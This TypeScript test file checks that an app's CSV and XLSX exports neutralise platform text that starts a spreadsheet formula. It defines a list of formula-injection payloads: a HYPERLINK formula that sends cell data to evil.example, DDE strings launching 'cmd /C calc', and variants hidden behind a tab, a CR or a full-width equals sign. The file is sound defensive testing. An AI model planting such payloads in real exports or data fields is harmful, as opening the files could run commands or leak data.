/**
 * Platform text in every export is inert: a client name, email, id, project id or ledger
 * description that starts a formula is written neutralised in CSV (the file is parsed back cell by
 * cell) and as a string cell in XLSX (read back with exceljs), while amounts stay numbers.
 * The data arrives the real way: a platform on 127.0.0.1, a sync into a real cache, the RPC.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type { Core } from '../../../electron/core/create-core';
import { testCore } from '../../support/test-core';
import type { Client, Transaction } from '../../../shared/contract/platform';
import { resources } from '../../../shared/i18n';
import { startFakePlatform, type FakePlatform } from '../core/fake-platform';
import { parseCsv, runsAsFormula } from '../../support/csv';

const NOW = Date.parse('2026-03-15T12:00:00Z');
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];
const EVIL_ID = '-A1-A2'; // a valid platform id (letters, digits, _ and -) that Excel would compute
const EVIL_PID = "+cmd|' /C calc'!A0";

let dir: string;
let fp: FakePlatform;
let core: Core;

function client(id: string, name: string, email: string): Client {
  return {
    id,
    email,
    name,
    phone: null,
    external_id: '=1+1',
    status: 'active',
    payment_model: 'prepaid',
    invited_at: '2025-01-10T09:00:00Z',
    registered_at: '2025-01-11T09:00:00Z',
    updated_at: '2026-03-01T00:00:00Z',
    balance: { payment: { amount_minor: -12_345, currency: 'RUB' }, bonus: { amount_minor: 0, currency: 'RUB' }, as_of: '2026-03-01T00:00:00Z' },
    projects_count: 1,
  };
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'pd-exports-'));
  fp = await startFakePlatform();
  fp.upsert(client(EVIL_ID, HOSTILE[0]!, '@SUM(1)@evil.example'));
  fp.projects.set(EVIL_ID, [{ pid: EVIL_PID, name: '=1+1', status: 'active', created_at: '2025-01-11T09:00:00Z' }]);
  HOSTILE.forEach((description, i) => {
    const t: Transaction = {
      id: `t${i}`,
      client_id: EVIL_ID,
      project_pid: EVIL_PID,
      at: `2026-03-0${i + 1}T10:00:00Z`,
      kind: i % 2 ? 'credit' : 'debit',
      amount_minor: 1000 + i,
      currency: 'RUB',
      service: i % 2 ? null : 'compute',
      description,
    };
    fp.addTx(t);
  });
  core = await testCore(dir, fp, 'custom', {
    now: () => NOW,
    apiOptions: { retryBaseMs: 1, retryMaxMs: 5, maxRetries: 0, timeoutMs: 5000 },
  });
  await core.engine.run();
  await core.call('actions.enqueue', { action: 'block', ids: [EVIL_ID] });
});
afterAll(async () => {
  await core.close();
  await fp.close();
  rmSync(dir, { recursive: true, force: true });
});

type File = { base64: string; fileName: string };
const bytes = (f: File) => Buffer.from(f.base64, 'base64');
const header = (rows: string[][], name: string) => {
  const i = rows[0]!.indexOf(name);
  expect(i, name).toBeGreaterThanOrEqual(0);
  return i;
};
/** Every cell of every row: none would run as a formula. */
function expectInert(rows: string[][]) {
  for (const r of rows) for (const c of r) expect(runsAsFormula(c), JSON.stringify(c)).toBe(false);
}
async function sheetOf(f: File): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes(f) as unknown as ArrayBuffer);
  return wb.worksheets[0]!;
}
/**
 * XLSX: no cell is a formula, and every cell holding platform text is a string cell with exactly
 * that text (XML keeps a CR as LF). Returns the texts found.
 */
function expectStringCells(ws: ExcelJS.Worksheet, texts: string[]) {
  const wanted = new Map(texts.map((t) => [t.replace(/\r/g, '\n'), t]));
  const found = new Set<string>();
  ws.eachRow((row) =>
    row.eachCell((cell) => {
      expect(cell.formula, String(cell.value)).toBeFalsy();
      expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
      const original = typeof cell.value === 'string' ? wanted.get(cell.value) : undefined;
      if (original !== undefined) {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        found.add(original);
      }
    }),
  );
  return found;
}

describe('exports keep platform text inert', () => {
  for (const lang of ['en', 'ru'] as const) {
    it(`balance CSV (${lang}): descriptions and project ids neutralised, amounts numbers`, async () => {
      const f = (await core.call('balance.export', { view: 'detail', clientId: EVIL_ID, from: '2026-03-01', to: '2026-03-15', format: 'csv', lang })) as File;
      const sep = lang === 'ru' ? ';' : ',';
      const rows = parseCsv(bytes(f), sep);
      expectInert(rows);
      const c = resources[lang].balance.columns;
      const desc = header(rows, c.description);
      const proj = header(rows, c.project);
      const amount = header(rows, c.amount);
      expect(rows.slice(1).map((r) => r[desc]).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
      for (const r of rows.slice(1)) {
        expect(r[proj]).toBe(`'${EVIL_PID}`);
        expect(Number.isFinite(Number(r[amount]!.replace(',', '.'))), r[amount]).toBe(true);
      }
      // Debits are negative and still plain numbers, not neutralised text.
      expect(rows.slice(1).some((r) => r[amount]!.startsWith('-'))).toBe(true);
    });
  }

  it('balance XLSX: platform text in string cells, amounts numbers', async () => {
    const f = (await core.call('balance.export', { view: 'detail', clientId: EVIL_ID, from: '2026-03-01', to: '2026-03-15', format: 'xlsx', lang: 'en' })) as File;
    const ws = await sheetOf(f);
    const texts = [...new Set([...HOSTILE, EVIL_PID])];
    expect([...expectStringCells(ws, texts)].sort()).toEqual(texts.sort());
    const amountCol = (ws.getRow(1).values as unknown[]).indexOf(resources.en.balance.columns.amount);
    for (let r = 2; r <= ws.rowCount; r++) expect(typeof ws.getRow(r).getCell(amountCol).value).toBe('number');
  });

  it('action results CSV and XLSX: the client id, name and email inert', async () => {
    const { batches } = (await core.call('actions.batches', {})) as { batches: { id: string }[] };
    const batchId = batches[0]!.id;
    const csv = (await core.call('actions.export', { batchId, format: 'csv', lang: 'en' })) as File;
    const rows = parseCsv(bytes(csv));
    expectInert(rows);
    const e = resources.en.actions.export;
    expect(rows[1]![header(rows, e.clientId)]).toBe(`'${EVIL_ID}`);
    expect(rows[1]![header(rows, e.name)]).toBe(`'${HOSTILE[0]}`);
    expect(rows[1]![header(rows, e.email)]).toBe("'@SUM(1)@evil.example");
    expect(rows[1]![header(rows, e.attempts)]).toMatch(/^\d+$/);
    const ws = await sheetOf((await core.call('actions.export', { batchId, format: 'xlsx', lang: 'en' })) as File);
    expect(expectStringCells(ws, [EVIL_ID, HOSTILE[0]!, '@SUM(1)@evil.example']).size).toBe(3);
  });

  it('audit CSV and XLSX: client ids inert, counts numbers', async () => {
    const rows = parseCsv(bytes((await core.call('audit.export', { format: 'csv', lang: 'ru' })) as File), ';');
    expectInert(rows);
    const e = resources.ru.actions.export;
    expect(rows[1]![header(rows, e.clientIds)]).toBe(`'${EVIL_ID}`);
    expect(rows[1]![header(rows, e.count)]).toBe('1');
    const ws = await sheetOf((await core.call('audit.export', { format: 'xlsx', lang: 'ru' })) as File);
    expect(expectStringCells(ws, [EVIL_ID]).size).toBe(1);
  });

  // The separators come from export/csv.ts for every export: ';' and a decimal comma in Russian, ',' and a point in English.
  for (const [lang, sep, other] of [['ru', ';', ','], ['en', ',', ';']] as const) {
    it(`every CSV export in ${lang} separates cells with '${sep}'`, async () => {
      const { batches } = (await core.call('actions.batches', {})) as { batches: { id: string }[] };
      const files: Record<string, File> = {
        balance: (await core.call('balance.export', { view: 'detail', clientId: EVIL_ID, from: '2026-03-01', to: '2026-03-15', format: 'csv', lang })) as File,
        results: (await core.call('actions.export', { batchId: batches[0]!.id, format: 'csv', lang })) as File,
        audit: (await core.call('audit.export', { format: 'csv', lang })) as File,
        clients: (await core.call('clients.export', { sort: { column: 'name', dir: 'asc' }, columns: ['name', 'email', 'payment'], format: 'csv', lang })) as File,
      };
      for (const [name, f] of Object.entries(files)) {
        const rows = parseCsv(bytes(f), sep);
        expect(rows.length, name).toBeGreaterThan(1);
        expect(rows[0]!.length, name).toBeGreaterThan(2);
        for (const r of rows) expect(r, name).toHaveLength(rows[0]!.length);
        // Read with the other separator, the header is one cell: the file does not mix them.
        expect(parseCsv(bytes(f), other)[0], name).toHaveLength(1);
      }
      // Money in the client list: -123.45 in the language's form.
      const list = parseCsv(bytes(files.clients!), sep);
      expect(list[1]![2]).toBe(lang === 'ru' ? '-123,45' : '-123.45');
    });
  }
});
